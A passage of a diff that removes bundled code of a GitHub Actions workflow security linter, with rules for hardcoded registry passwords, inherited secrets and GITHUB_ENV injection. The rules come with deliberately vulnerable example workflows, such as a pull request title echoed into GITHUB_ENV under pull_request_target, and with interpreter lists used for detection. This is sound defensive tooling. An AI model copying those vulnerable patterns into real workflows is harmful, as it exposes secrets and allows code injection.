-    const related = upload ? [{ place: firstLineOf(upload.map), message: "the workspace is uploaded here" }] : [];
-    report(firstLineOf(step.map), message, {
-        severity,
-        confidence,
-        persona,
-        related,
-        fix: persona === "auditor" ? null : fixOf(step, later),
-    });
-}
-/** Since v6 the credential lies outside the workspace, where an upload doesn't take it along. */
-function severityOf(step, isUploaded) {
-    const severity = isUploaded ? "high" : "medium";
-    return (majorOf(step) ?? 0) >= 6 ? (0,lib/* lowered */.DM)(severity) : severity;
-}
-function fixOf(step, later) {
-    const edit = setIn(step.map, "with", INPUT, "false", step.map.entry("uses"));
-    return edit && { description: `set \`${INPUT}: false\``, safe: !later.some(pushes), edits: [edit] };
-}
-/** Actions that push with the credential that the checkout left. */
-const PUSHING_ACTIONS = [
-    "ad-m/github-push-action",
-    "changesets/action",
-    "endbug/add-and-commit",
-    "peaceiris/actions-gh-pages",
-    "peter-evans/create-pull-request",
-    "stefanzweifel/git-auto-commit-action",
-];
-const GIT_WITH_REMOTE = /\bgit\b[^\n;|&]*\b(?:push|fetch|pull|ls-remote|submodule|clone|remote)\b|\bgit-lfs\b|\bgit\s+lfs\b/;
-function pushes({ uses, run }) {
-    return run ? GIT_WITH_REMOTE.test(run.text) : PUSHING_ACTIONS.some((name) => uses?.is(name));
-}
-/** Does the artifact hold `.git`? From v4.4 hidden files stay out unless they are asked for. */
-function uploadsWorkspace(step) {
-    if (!step.uses?.is("actions/upload-artifact"))
-        return false;
-    const path = step.input("path")?.value;
-    if (path?.kind !== "scalar")
-        return false;
-    const lines = path.value.split("\n").map((line) => line.trim());
-    if (lines.some((line) => /^!.*\.git\b/.test(line)) || !lines.some(isWholeWorkspace))
-        return false;
-    const hidden = step.input("include-hidden-files")?.value;
-    const takesHidden = hidden?.kind === "scalar" && hidden.value !== "false";
-    return takesHidden || (majorOf(step) ?? 0) < 4;
-}
-function isWholeWorkspace(line) {
-    return (/^(?:\.{1,2}\/?|\.\/\*\*(?:\/\*)?|\*\*(?:\/\*)?)$/.test(line) ||
-        /^\$\{\{\s*github\.workspace\s*\}\}\/?$/i.test(line));
-}
-/** The major version of a `uses:` at a version tag; unknown for commits and branches. */
-function majorOf(step) {
-    const target = step.uses?.target;
-    if (target?.kind !== "repository" || isCommit(target.ref))
-        return null;
-    const match = /^v?(\d+)(?:\.|$)/.exec(target.ref);
-    return match ? Number(match[1]) : null;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/hardcoded-container-credentials.js
-
-
-/* harmony default export */ const hardcoded_container_credentials = (defineRule({
-    id: "hardcoded-container-credentials",
-    category: "credentials",
-    severity: "high",
-    isZizmor: true,
-    summary: "A registry password stands in the workflow",
-    risk: "Everyone who can read the repository, or any old clone of it, can pull and perhaps push images with this password.",
-    mend: "Revoke the password, store a new one as a secret, and write `password: ${{ secrets.REGISTRY_PASSWORD }}`.",
-    sources: [
-        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idcontainercredentials",
-    ],
-    examples: {
-        flagged: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  test:
-    runs-on: ubuntu-latest
-    container:
-      image: registry.example.com/ci@sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc
-      credentials:
-        username: robot
-        password: hunter2
-    services:
-      db:
-        image: registry.example.com/db@sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc
-        credentials: {username: robot, password: "hunter2"}
-    steps:
-      - run: make test
-`,
-                at: [10, 14],
-            },
-        ],
-        silent: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  test:
-    runs-on: ubuntu-latest
-    container:
-      image: registry.example.com/ci@sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc
-      credentials:
-        username: robot
-        password: \${{ secrets.REGISTRY_PASSWORD }}
-    steps:
-      - run: make test
-`,
-                because: "the password comes from a secret, and a user's name is none",
-            },
-        ],
-    },
-    container(container, _job, report) {
-        const password = container.credentials?.scalar("password");
-        if (!password || password.isNull || password.value === "" || expressionsIn(password).length > 0)
-            return;
-        const whose = container.kind === "container" ? "the job's container" : `the service \`${container.name}\``;
-        report(password, `The registry password of ${whose} is written out`);
-    },
-}));
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/holdings.js
-
-
-const holdings_cache = new WeakMap();
-function holdingsOf(job) {
-    let holdings = holdings_cache.get(job);
-    if (!holdings) {
-        holdings = readHoldings(job);
-        holdings_cache.set(job, holdings);
-    }
-    return holdings;
-}
-function readHoldings(job) {
-    const { permissions } = job.effectivePermissions;
-    const writes = permissions?.writes ?? [];
-    const secrets = secretsOf(job);
-    return {
-        secrets: [...secrets.names].sort(),
-        mayHoldAnySecret: secrets.isOpen,
-        writes: writes.filter((scope) => scope !== "id-token"),
-        hasDefaultToken: permissions === null,
-        hasIdentity: writes.includes("id-token"),
-    };
-}
-/** No secret, no write scope and no identity: there is little to gain. */
-function holdsNothing(holdings) {
-    return (holdings.secrets.length === 0 &&
-        !holdings.mayHoldAnySecret &&
-        holdings.writes.length === 0 &&
-        !holdings.hasDefaultToken &&
-        !holdings.hasIdentity);
-}
-function secretsOf(job) {
-    const found = { names: new Set(), isOpen: job.kind === "reusable" && job.inheritsSecrets };
-    const collect = (scalar) => collectSecrets(scalar, found);
-    visitScalars(job.map, collect, new Set());
-    const env = job.workflow.env?.entry.value;
-    if (env)
-        visitScalars(env, collect, new Set());
-    return found;
-}
-function collectSecrets(scalar, found) {
-    for (const name of secretsNamedIn(scalar)) {
-        if (name === "*")
-            found.isOpen = true;
-        else if (name.toLowerCase() !== "github_token")
-            found.names.add(name.toUpperCase());
-    }
-}
-/** The secrets that a scalar's expressions name, as they write them; `*` where the name is computed or all are meant. */
-function secretsNamedIn(scalar) {
-    const names = [];
-    for (const embedded of expressionsIn(scalar)) {
-        // Few expressions speak of secrets: the others needn't be parsed for this.
-        if (!/secrets/i.test(embedded.body) || !embedded.expression)
-            continue;
-        for (const { segments, node } of references(embedded.expression)) {
-            if (segments[0] !== "secrets")
-                continue;
-            const name = segments[1] ?? "*";
-            names.push(name === "*" ? name : asWritten(scalar.value.slice(node.start, node.end), name));
-        }
-    }
-    return names;
-}
-function asWritten(text, name) {
-    const at = text.toLowerCase().indexOf(name, "secrets".length);
-    return at === -1 ? name : text.slice(at, at + name.length);
-}
-/** Calls `visit` for every scalar value below a node, each once however many aliases lead there. */
-function visitScalars(node, visit, seen) {
-    if (seen.has(node))
-        return;
-    seen.add(node);
-    if (node.kind === "scalar")
-        visit(node);
-    else if (node.kind === "seq")
-        for (const item of node.items)
-            visitScalars(item.value, visit, seen);
-    else
-        for (const entry of node.entries)
-            visitScalars(entry.value, visit, seen);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/secrets-inherit.js
-
-
-
-/* harmony default export */ const secrets_inherit = (defineRule({
-    id: "secrets-inherit",
-    category: "credentials",
-    severity: "medium",
-    isZizmor: true,
-    fixes: "unsafe",
-    summary: "A called workflow gets every secret of the caller",
-    risk: "Whoever changes the called workflow, or finds a hole in it, takes every secret of this repository and its organization, not only those that it needs.",
-    mend: "Pass the secrets that it needs, by name: `secrets: {TOKEN: ${{ secrets.TOKEN }}}`.",
-    sources: [
-        "https://docs.github.com/actions/how-tos/reuse-automations/reuse-workflows#passing-inputs-and-secrets-to-a-reusable-workflow",
-    ],
-    examples: {
-        flagged: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  call:
-    uses: octo-org/workflows/.github/workflows/build.yml@1234567890abcdef1234567890abcdef12345678
-    secrets: inherit
-`,
-                at: [6],
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  call:
-    uses: ./.github/workflows/called.yml
-    secrets: inherit # all of them
-`,
-                files: {
-                    ".github/workflows/called.yml": `on:
-  workflow_call:
-    secrets:
-      DEPLOY_KEY: {required: true}
-permissions: {}
-jobs:
-  deploy:
-    runs-on: ubuntu-latest
-    steps:
-      - run: make deploy
-        env:
-          KEY: \${{ secrets.DEPLOY_KEY }}
-          URL: \${{ secrets.DEPLOY_URL }}
-          TOKEN: \${{ secrets.GITHUB_TOKEN }}
-`,
-                },
-                at: [6],
-                fixed: `on: push
-permissions: {}
-jobs:
-  call:
-    uses: ./.github/workflows/called.yml
-    secrets: {DEPLOY_KEY: "\${{ secrets.DEPLOY_KEY }}", DEPLOY_URL: "\${{ secrets.DEPLOY_URL }}"} # all of them
-`,
-            },
-        ],
-        silent: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  call:
-    uses: octo-org/workflows/.github/workflows/build.yml@1234567890abcdef1234567890abcdef12345678
-    secrets:
-      TOKEN: \${{ secrets.TOKEN }}
-`,
-                because: "it lists what it passes",
-            },
-        ],
-    },
-    reusableJob(job, report) {
-        if (!job.inheritsSecrets || !job.secrets)
-            return;
-        report(job.secrets.value, `\`${job.uses.text}\` gets every secret`, { fix: listSecrets(job, report) });
-    },
-}));
-/** A local callee shows which secrets it uses; those of workflows that it calls in turn count only if it names them. */
-function listSecrets(job, report) {
-    const callee = report.repository.resolve(job.uses);
-    if (callee?.kind !== "workflow" || !job.secrets)
-        return null;
-    const names = secretsUsedBy(callee);
-    if (!names)
-        return null;
-    const pairs = names.map((name) => `${name}: "\${{ secrets.${name} }}"`);
-    const edits = [replaceNode(job.secrets.value, `{${pairs.join(", ")}}`)];
-    return { description: "pass only the secrets that the called workflow uses", safe: false, edits };
-}
-/** Null when it may use any. */
-function secretsUsedBy(workflow) {
-    if (workflow.jobs.some((called) => called.kind === "reusable" && called.inheritsSecrets))
-        return null;
-    const names = new Map();
-    const add = (name) => names.set(name.toLowerCase(), names.get(name.toLowerCase()) ?? name);
-    for (const { key } of workflow.trigger("workflow_call")?.secrets ?? [])
-        add(key.value);
-    visitScalars(workflow.root, (scalar) => secretsNamedIn(scalar).forEach(add), new Set());
-    names.delete("github_token");
-    return names.has("*") ? null : [...names.values()].sort();
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/triggers.js
-/**
- * Events that anybody can fire in a public repository, without write access.
- *
- * @see Events that trigger workflows; a scan of the webhook documentation for who can cause each
- */
-const FIRED_BY_ANYONE = new Set([
-    "discussion",
-    "discussion_comment",
-    "fork",
-    "gollum",
-    "issue_comment",
-    "issues",
-    "pull_request",
-    "pull_request_review",
-    "pull_request_review_comment",
-    "pull_request_target",
-    "watch",
-    "workflow_run",
-]);
-/** Of these, the ones whose runs get secrets and a full token all the same: they run in the base repository's context. */
-const UNPRIVILEGED = new Set([
-    "pull_request",
-    "pull_request_review",
-    "pull_request_review_comment",
-]);
-function isFiredByAnyone(event) {
-    return FIRED_BY_ANYONE.has(event);
-}
-/** Can anybody start a run that holds secrets and a write token by this event? */
-function isPrivileged(event) {
-    return FIRED_BY_ANYONE.has(event) && !UNPRIVILEGED.has(event);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/injection/github-env.js
-
-
-
-const FILES = ["GITHUB_ENV", "GITHUB_PATH"];
-/* harmony default export */ const github_env = (defineRule({
-    id: "github-env",
-    category: "injection",
-    severity: "high",
-    isZizmor: true,
-    summary: "Something that isn't fixed is written to GITHUB_ENV or GITHUB_PATH where strangers can start the run",
-    risk: "A line of the attacker's in that file sets any variable of the steps that follow (`LD_PRELOAD`, `NODE_OPTIONS`, `PATH`), and so runs code in them.",
-    mend: "Hand values on as step outputs (`GITHUB_OUTPUT`) and read them where they are needed; write only fixed text to `GITHUB_ENV` and `GITHUB_PATH`.",
-    sources: [
-        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-commands#setting-an-environment-variable",
-    ],
-    examples: {
-        flagged: [
-            {
-                text: `on: pull_request_target
-permissions: {contents: write}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - run: |
-          set -e
-          echo "TITLE=$TITLE" >> "$GITHUB_ENV"
-          cat names.txt | tee -a $GITHUB_PATH
-        env:
-          TITLE: \${{ github.event.pull_request.title }}
-`,
-                at: [9, 10],
-            },
-            {
-                text: `on: issue_comment
-permissions: {contents: write}
-jobs:
-  a:
-    runs-on: windows-latest
-    steps:
-      - run: Add-Content -Path $env:GITHUB_ENV -Value "BODY=$env:BODY"
-        env:
-          BODY: \${{ github.event.comment.body }}
-`,
-                at: [7],
-            },
-            {
-                path: "act/action.yml",
-                text: `name: c
-description: c
-inputs: {name: {description: n}}
-runs:
-  using: composite
-  steps:
-    - run: echo "NAME=\${{ inputs.name }}" >> $GITHUB_ENV
-      shell: bash
-`,
-                at: [7],
-                confidence: "low",
-            },
-        ],
-        silent: [
-            {
-                text: `on: pull_request_target
-permissions: {contents: write}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - run: |
-          # echo "T=$X" >> $GITHUB_ENV
-          echo "LEVEL=3" >> "$GITHUB_ENV"
-          echo "$HOME/.local/bin" >> "$GITHUB_PATH"
-          echo "title=$TITLE" >> "$GITHUB_OUTPUT"
-`,
-                because: "a comment writes nothing, fixed text is the author's own, and an output sets no variable",
-            },
-            {
-                text: `on: push
-permissions: {contents: write}
-jobs:
-  a:
-    runs-on: ubuntu-latest
-    steps:
-      - run: echo "VERSION=$(git describe)" >> "$GITHUB_ENV"
-`,
-                because: "only people with write access can start the run",
-            },
-        ],
-    },
-    run(run, report) {
-        if (!mentions(run.text, FILES))
-            return;
-        const { owner } = run.step;
-        const isComposite = owner.kind === "composite";
-        const event = isComposite
-            ? undefined
-            : owner.workflow.triggers.find((trigger) => isPrivileged(trigger.event))?.event;
-        if (!isComposite && event === undefined)
-            return;
-        const who = event === undefined
-            ? "a workflow that strangers can start may call this action"
-            : `strangers can start this run by \`${event}\``;
-        for (const write of environmentFileWrites(run.script, FILES)) {
-            if (write.content === "static")
-                continue;
-            const span = run.scalar.spanOf(write.span.start, write.span.end);
-            const message = `Text that isn't fixed is written to \`${write.file}\`, and ${who}`;
-            report({ file: run.scalar.file, ...span }, message, { confidence: isComposite ? "low" : "medium" });
-        }
-    },
-}));
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/hand-over.js
-
-
-
-
-/**
- * A fix that hands an expression's value over in `env:` and reads the variable where the expression stood, so that the
- * script never holds the text. Null where no reference would mean the same: in cmd, which pastes variables before it
- * reads them, in text that is read as code once more, and where the place can't be understood.
- */
-function handOverThroughEnv(embedded, shell, step) {
-    const { scalar, expression } = embedded;
-    if (!expression || !embedded.isTerminated)
-        return null;
-    const script = step.run?.scalar === scalar
-        ? step.run.script
-        : parseScript(scalar.value, shell, expressionsIn(scalar));
-    const variable = variableFor(embedded, expression, step);
-    const replacement = variable && referenceAt(embedded, variable.name, shell, script);
-    if (!replacement)
-        return null;
-    const edit = replaceInScalar(scalar, replacement);
-    const declare = variable.isSet ? null : declareVariable(step, variable.name, embedded.text);
-    if (!edit || (!variable.isSet && !declare))
-        return null;
-    return {
-        description: `hand the value over in the variable \`${variable.name}\``,
-        safe: replacement.isSafe && isOneWord(expression, replacement),
-        edits: declare ? [edit, declare] : [edit],
-    };
-}
-/** Values of a payload are one word each; inputs and the like may be meant as several. */
-function isOneWord(expression, { joinsWords }) {
-    return !joinsWords || references(expression).every(({ segments }) => segments[0] === "github");
-}
-// ---- the reference -------------------------------------------------------------------------------------------------
-function referenceAt(embedded, name, shell, script) {
-    const { start, end } = embedded;
-    const whole = { start, end, isSafe: true, joinsWords: false };
-    switch (shell) {
-        case "bash":
-        case "sh":
-            return shellReference(embedded, name, script);
-        case "pwsh":
-        case "powershell":
-            return powershellReference(embedded, name, script);
-        case "python": {
-            const literal = script.strings.find((string) => string.body.start === start && string.body.end === end);
-            if (literal?.kind !== "string" && literal?.kind !== "raw-string")
-                return null;
-            return { ...whole, start: literal.start, end: literal.end, text: `__import__("os").environ["${name}"]` };
-        }
-        case "javascript":
-            return javascriptReference(embedded, name, script);
-        default:
-            return null;
-    }
-}
-function shellReference({ start, end }, name, script) {
-    if (isReadAsCodeAgain(script, start))
-        return null;
-    const whole = { start, end, isSafe: true, joinsWords: false };
-    switch (script.quotingAt(start)) {
-        case "double":
-        case "heredoc":
-            return { ...whole, text: `\${${name}}` };
-        case "single":
-            return { ...whole, text: `'"\${${name}}"'` };
-        case "none":
-            return isArgument(script, start) ? { ...whole, text: `"\${${name}}"`, joinsWords: true } : null;
-        default:
-            return null;
-    }
-}
-function powershellReference({ start, end }, name, script) {
-    if (isReadAsCodeAgain(script, start))
-        return null;
-    const whole = { start, end, isSafe: true, joinsWords: false };
-    switch (script.quotingAt(start)) {
-        case "double":
-        case "here-string-double":
-            return { ...whole, text: `\${env:${name}}` };
-        case "single": {
-            // Only a literal that holds nothing else: the variable can take its place.
-            const isWhole = script.text[start - 1] === "'" && script.text[end] === "'";
-            return isWhole ? { ...whole, start: start - 1, end: end + 1, text: `\${env:${name}}` } : null;
-        }
-        case "none":
-            return isArgument(script, start) ? { ...whole, text: `\${env:${name}}`, joinsWords: true } : null;
-        default:
-            return null;
-    }
-}
-function javascriptReference({ start, end }, name, script) {
-    const literal = script.strings.find((string) => string.start < start && end < string.end);
-    const whole = { start, end, isSafe: true, joinsWords: false };
-    if (literal?.kind === "template" && script.quotingAt(start) === "template") {
-        return { ...whole, text: `\${process.env.${name}}` };
-    }
-    if (literal?.body.start !== start || literal.body.end !== end)
-        return null;
-    return { ...whole, start: literal.start, end: literal.end, text: `process.env.${name}` };
-}
-const INTERPRETERS = new Set([
-    "bash",
-    "cmd",
-    "dash",
-    "eval",
-    "iex",
-    "invoke-expression",
-    "ksh",
-    "node",
-    "perl",
-    "php",
-    "powershell",
-    "pwsh",
-    "python",
-    "python3",
-    "ruby",
-    "sh",
-    "source",
-    "ssh",
-    "su",
-    "zsh",
-]);
-const NAMES_INTERPRETER = new RegExp(`\\b(?:${[...INTERPRETERS].join("|")})\\b`, "i");
-/** `bash -c '…'`, `eval`, `ssh host …`: a variable's value would be pasted into code there just the same. */
-function isReadAsCodeAgain(script, offset) {
-    // Most scripts name none, and need not be parsed for this.
-    if (!NAMES_INTERPRETER.test(script.text))
-        return false;
-    return script.commands.some((command) => {
-        if (offset < command.start || offset >= command.end)
-            return false;
-        if (command.place.nestedIn)
-            return true;
-        const name = effectiveCommand(command)?.name?.literal?.split(/[\\/]/).at(-1)?.toLowerCase();
-        return name !== undefined && INTERPRETERS.has(name) && isInWords(command, offset);
-    });
-}
-function isInWords(command, offset) {
-    return command.args.some((word) => word.start <= offset && offset < word.end);
-}
-/** An argument, a redirect's target or a plain assignment: places where a quoted variable may stand. */
-function isArgument(script, offset) {
-    return script.commands.some((command) => isInWords(command, offset) ||
-        command.redirects.some(({ target }) => target !== undefined && target.start <= offset && offset < target.end) ||
-        command.assignments.some((assignment) => assignment.values.length === 1 &&
-            assignment.start <= offset &&
-            offset < assignment.end &&
-            !isArray(script, assignment)));
-}
-function isArray(script, assignment) {
-    return script.text.slice(assignment.start, assignment.end).includes("=(");
-}
-/** Contexts that the runner hands to every script as variables. */
-const PROVIDED = new Set([
-    "github.actor",
-    "github.base_ref",
-    "github.event_name",
-    "github.head_ref",
-    "github.ref",
-    "github.ref_name",
-    "github.repository",
-    "github.run_id",
-    "github.sha",
-    "github.workflow",
-]);
-function variableFor(embedded, expression, step) {
-    const path = contextPath(expression);
-    const dotted = path?.segments.join(".") ?? "";
-    if (path?.exact && PROVIDED.has(dotted))
-        return { name: dotted.replace(".", "_").toUpperCase(), isSet: true };
-    if (path?.exact && path.segments[0] === "env" && path.segments.length === 2)
-        return existing(path.segments[1], step);
-    const [first] = references(expression);
-    if (!first)
-        return null;
-    const base = nameFor(first.segments);
-    for (let n = 1; n < 10; n++) {
-        const name = n === 1 ? base : `${base}_${n}`;
-        const entry = step.variable(name);
-        if (!entry)
-            return { name, isSet: false };
-        if (entry.value?.value === embedded.text)
-            return { name: entry.name, isSet: true };
-    }
-    return null;
-}
-/** `env.X` is a variable of the script as it is, if an `env:` block sets it. */
-function existing(name, step) {
-    const entry = step.variable(name);
-    return entry && /^[A-Za-z_]\w*$/.test(entry.name) ? { name: entry.name, isSet: true } : null;
-}
-/** `github.event.pull_request.title` → `PULL_REQUEST_TITLE`; names that begin with `GITHUB_` are the runner's own. */
-function nameFor(segments) {
-    const words = segments[0] === "github" ? segments.slice(segments[1] === "event" ? 2 : 1) : segments;
-    const name = words
-        .filter((word) => word !== "*")
-        .join("_")
-        .replace(/\W/g, "_")
-        .toUpperCase();
-    return /^[A-Z_]/.test(name) && !/^(?:GITHUB|RUNNER|ACTIONS)_/.test(name) && name !== "PATH" ? name : `VALUE_${name}`;
-}
-function declareVariable(step, name, text) {
-    const block = step.env?.map;
-    const isFlow = block ? block.flow : step.map.flow;
-    const isPlain = !isFlow && !/: |\s#|["\n]/.test(text);
-    const after = step.map.entry("run") ?? step.map.entry("with");
-    return setIn(step.map, "env", name, isPlain ? text : JSON.stringify(text), after);
-}
-// ---- the edit ------------------------------------------------------------------------------------------------------
-/** Writes the replacement in the style of the scalar, so that its value holds just that text. */
-function replaceInScalar(scalar, { start, end, text }) {
-    const span = scalar.spanOf(start, end);
-    if (scalar.style === "double")
-        return { ...span, text: JSON.stringify(text).slice(1, -1) };
-    if (scalar.style === "single")
-        return { ...span, text: text.replaceAll("'", "''") };
-    return { ...span, text };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/code-inputs.js
-/**
- * Inputs of well-known actions that are code: what is expanded into them is run.
- *
- * By action in lower case; the language decides how a value can be handed over without being expanded.
- */
-const CODE_INPUTS = new Map([
-    ["8398a7/action-slack", ["custom_payload"]],
-    ["actions/github-script", ["script"]],
-    ["addnab/docker-run-action", ["run", "options"]],
-    ["amadevus/pwsh-script", ["script"]],
-    ["appleboy/ssh-action", ["script"]],
-    ["azure/cli", ["inlinescript"]],
-    ["azure/powershell", ["inlinescript"]],
-    ["cardinalby/export-env-action", ["envfile"]],
-    ["cardinalby/js-eval-action", ["expression"]],
-    ["cypress-io/github-action", ["command", "install-command", "build", "start"]],
-    ["devorbitus/yq-action-output", ["cmd"]],
-    ["docker/bake-action", ["set"]],
-    ["gautamkrishnar/blog-post-workflow", ["item_exec"]],
-    ["jannekem/run-python-script-action", ["script"]],
-    ["mikefarah/yq", ["cmd"]],
-    ["nick-fields/retry", ["command", "on_retry_command"]],
-    ["nickcharlton/diff-check", ["command"]],
-    ["reactivecircus/android-emulator-runner", ["script"]],
-    ["uraimo/run-on-arch-action", ["run", "install"]],
-    ["vmactions/freebsd-vm", ["run", "prepare"]],
-]);
-/** The inputs of an action that are code, in lower case. `name` is `owner/repo[/path]` in lower case. */
-function codeInputsOf(name) {
-    return CODE_INPUTS.get(name) ?? [];
-}
-/** The language of an action's code inputs, where a value can be read from the environment in it. */
-function code_inputs_languageOf(name) {
-    return name === "actions/github-script" ? "javascript" : "unknown";
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/event-contexts.js
-const PULL_REQUESTS = ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"];
-/** Which events fill an object of the payload; others leave it null. */
-const SET_BY = new Map([
-    ["github.head_ref", ["pull_request", "pull_request_target"]],
-    ["github.base_ref", ["pull_request", "pull_request_target"]],
-    ["github.event.pull_request", PULL_REQUESTS],
-    ["github.event.review", ["pull_request_review"]],
-    ["github.event.comment", ["issue_comment", "pull_request_review_comment", "discussion_comment", "commit_comment"]],
-    ["github.event.issue", ["issues", "issue_comment"]],
-    ["github.event.discussion", ["discussion", "discussion_comment"]],
-    ["github.event.workflow_run", ["workflow_run"]],
-    ["github.event.pages", ["gollum"]],
-    ["github.event.forkee", ["fork"]],
-    ["github.event.merge_group", ["merge_group"]],
-    ["github.event.client_payload", ["repository_dispatch"]],
-]);
-/** May one of the events that start a step's workflow set this context? True where that can't be known. */
-function isSetBy(source, { owner }) {
-    const path = source.split(".");
-    const events = SET_BY.get(path.slice(0, 2).join(".")) ?? SET_BY.get(path.slice(0, 3).join("."));
-    if (!events || owner.kind === "composite")
-        return true;
-    const { triggers } = owner.workflow;
-    return triggers.length === 0 || triggers.some(({ event }) => event === "workflow_call" || events.includes(event));
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/contexts.js
-/** Contexts outside `github.event` whose text is the platform's own, or a name too narrow to break out of a script. */
-const FIXED_GITHUB = new Set([
-    "action_path",
-    "action_status",
-    "actor",
-    "actor_id",
-    "api_url",
-    "env",
-    "event_name",
-    "event_path",
-    "graphql_url",
-    "job",
-    "path",
-    "ref_protected",
-    "ref_type",
-    "repository",
-    "repository_id",
-    "repository_owner",
-    "repository_owner_id",
-    "repositoryurl",
-    "retention_days",
-    "run_attempt",
-    "run_id",
-    "run_number",
-    "secret_source",
-    "server_url",
-    "sha",
-    "step_summary",
-    "token",
-    "triggering_actor",
-    "workflow_sha",
-    "workspace",
-]);
-/** Last words of a payload's path that are numbers, dates, hashes, logins, flags or words from a closed list. */
-const FIXED_FIELDS = new Set([
-    "+1",
-    "-1",
-    "active_lock_reason",
-    "additions",
-    "after",
-    "archived",
-    "author_association",
-    "auto_merge",
-    "before",
-    "changed_files",
-    "color",
-    "comments",
-    "commits",
-    "conclusion",
-    "deleted",
-    "deletions",
-    "disabled",
-    "distinct",
-    "draft",
-    "forced",
-    "fork",
-    "forks",
-    "full_name",
-    "gravatar_id",
-    "id",
-    "is_template",
-    "line",
-    "locked",
-    "login",
-    "maintainer_can_modify",
-    "mergeable",
-    "mergeable_state",
-    "merged",
-    "node_id",
-    "number",
-    "open_issues",
-    "original_line",
-    "original_position",
-    "position",
-    "prerelease",
-    "private",
-    "rebaseable",
-    "review_comments",
-    "run_attempt",
-    "run_number",
-    "sha",
-    "side",
-    "site_admin",
-    "size",
-    "slug",
-    "start_line",
-    "state",
-    "state_reason",
-    "status",
-    "timestamp",
-    "topics",
-    "type",
-    "user_view_type",
-    "visibility",
-    "watchers",
-    "workflow_id",
-]);
-/** Fields of the payload itself, beside its objects. */
-const FIXED_TOP = new Set([
-    "action",
-    "after",
-    "before",
-    "created",
-    "deleted",
-    "forced",
-    "number",
-    "ref_type",
-]);
-const FIXED_ENDINGS = ["_at", "_count", "_id", "_sha"];
-/** Objects whose addresses are made of logins, names of repositories, numbers and hashes alone. */
-const PLAIN_ADDRESSES = new Set([
-    "actor",
-    "author",
-    "check_run",
-    "comment",
-    "discussion",
-    "forkee",
-    "head_repository",
-    "issue",
-    "organization",
-    "owner",
-    "pull_request",
-    "repo",
-    "repository",
-    "review",
-    "sender",
-    "triggering_actor",
-    "user",
-    "workflow_run",
-]);
-/**
- * Rates a context of `github.…`; undefined for one that is no `github` context.
- *
- * @param segments lower case, `*` for an index or a filter
- * @see the webhook payloads of the events that trigger workflows; GitHub's guide "Script injections"
- */
-function rateGithubContext(segments) {
-    if (segments[0] !== "github")
-        return undefined;
-    const field = segments[1];
-    if (field === undefined || field === "*")
-        return "arbitrary";
-    if (field !== "event")
-        return FIXED_GITHUB.has(field) ? "fixed" : "arbitrary";
-    return ratePayload(segments.slice(2));
-}
-function ratePayload(path) {
-    // Objects, when printed, print everything in them; `labels.*` is one, too.
-    const last = path.findLast((segment) => segment !== "*");
-    const first = path[0];
-    if (last === undefined || first === undefined)
-        return "arbitrary";
-    if (first === "inputs" || first === "client_payload")
-        return "arbitrary";
-    // `changes.title.from` holds the old title.
-    if (first === "changes")
-        return "arbitrary";
-    if (path.length === 1)
-        return FIXED_TOP.has(last) ? "fixed" : "arbitrary";
-    if (FIXED_FIELDS.has(last) || FIXED_ENDINGS.some((ending) => last.endsWith(ending)))
-        return "fixed";
-    if (last === "name")
-        return isRepositoryName(path) ? "fixed" : "arbitrary";
-    if (last === "url" || last.endsWith("_url") || last === "href")
-        return rateAddress(path);
-    return "arbitrary";
-}
-function isRepositoryName(path) {
-    const parent = path.at(-2);
-    return parent === "repository" || parent === "repo" || parent === "forkee" || parent === "head_repository";
-}
-function rateAddress(path) {
-    const parent = path.at(-2) ?? "";
-    return PLAIN_ADDRESSES.has(parent) || path.at(-3) === "_links" ? "fixed" : "structured";
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/rating.js
-
-
-
-
-const HARMLESS = { severity: "low", confidence: "high", persona: "pedantic" };
-/** An `env.X` that stands for another `env.X` is followed this far. */
-const MAX_ENV_HOPS = 5;
-/**
- * Rates what an expression may expand to in a step: the worst of the contexts whose text reaches its result.
- *
- * The scale is zizmor's for `template-injection`, so that both tools speak of the same places; contexts that can't hold a
- * character that breaks out (numbers, hashes, logins) are harmless here.
- */
-function rateExpression(expression, step) {
-    return rate(expression, step, 0);
-}
-function rate(expression, step, hops) {
-    let worst = { ...HARMLESS, source: "", why: "expanded into code, which is safe only as long as its text is" };
-    for (const { segments } of dataflow(expression)) {
-        const rating = rateContext(segments, step, hops);
-        if (rating && isWorse(rating, worst))
-            worst = rating;
-    }
-    return worst;
-}
-function isWorse(a, b) {
-    if (a.persona !== b.persona)
-        return a.persona === "regular";
-    return (0,lib/* compareSeverity */.zK)(a.severity, b.severity) < 0 || (a.severity === b.severity && b.source === "");
-}
-function rateContext(segments, step, hops) {
-    const source = segments.join(".");
-    switch (segments[0]) {
-        case "github":
-            return rateGithub(segments, step, source);
-        case "inputs":
-            return rateInput(segments[1], step, source);
-        case "env":
-            return rateEnv(segments[1], step, source, hops);
-        case "matrix":
-            return rateMatrix(segments.slice(1), step, source);
-        case "secrets":
-            return undefined;
-        case "steps":
-        case "needs":
-        case "jobs":
-            return rateOutput(segments, source);
-        case "runner":
-            return undefined;
-        default:
-            return { severity: "info", confidence: "low", persona: "regular", source, why: "not fixed by this file" };
-    }
-}
-function rateGithub(segments, step, source) {
